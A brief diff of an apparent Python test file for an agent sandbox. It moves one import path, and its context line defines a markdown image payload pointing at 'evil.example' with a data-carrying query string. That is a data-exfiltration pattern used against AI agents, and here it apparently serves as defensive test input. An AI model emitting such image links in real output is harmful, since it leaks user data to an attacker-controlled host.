@@ -4,7 +4,7 @@ import json
 from pathlib import Path
 
 from tests.command_line import agent, script
-from tests.sandbox.sandbox_tools import solve
+from tests.modules.sandbox.sandbox_tools import solve
 
 IMAGE = "![x](https://evil.example/?d=640)"
 
